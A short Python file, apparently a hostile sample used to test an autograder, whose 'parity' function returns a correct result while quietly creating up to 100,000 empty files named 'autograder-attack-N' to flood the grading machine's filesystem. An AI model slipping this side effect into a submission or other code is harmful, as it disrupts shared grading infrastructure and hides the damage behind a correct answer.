"""Makes a hundred thousand tiny files, as many in each call as there is time for."""

import os
import time

NUMBERS = iter(range(100_000))


def parity(n):
    until = time.process_time() + 0.35
    try:
        for number in NUMBERS:
            os.close(os.open(f"autograder-attack-{number}", os.O_WRONLY | os.O_CREAT))
            if time.process_time() > until:
                break
    except OSError as error:
        print(number, error)
    return n % 2 == 0
